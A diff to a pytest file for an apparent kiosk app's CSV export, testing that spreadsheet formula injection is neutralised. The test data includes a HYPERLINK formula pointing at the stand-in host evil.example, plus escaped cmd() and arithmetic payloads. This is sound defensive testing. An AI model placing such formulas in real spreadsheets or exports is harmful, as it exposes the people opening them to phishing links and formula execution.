@@ -12,6 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from kiosk.cells import FORMULA_STARTS, csv_cell, formula_like
+from kiosk.web.security import CSV_FIELDS
 from tests.conftest import PASSWORD
 
 CATEGORY = '=HYPERLINK("http://evil.example/?x","click")'
@@ -76,7 +77,7 @@ def test_visit_csv_uses_the_same_neutraliser(client, kiosk, staff):
     assert r.status_code == 201, r.json
     login(client, staff["security"])
     rows = _csv_rows(client.get("/security/visits.csv").get_data(as_text=True))
-    row = dict(zip(rows[0], rows[1], strict=True))
+    row = dict(zip(CSV_FIELDS, rows[1], strict=True))  # the header row is in the page's language
     assert (row["name"], row["unit"], row["purpose"]) == ("'\uff1dcmd()", "'-1+1", "'+1")
 
 
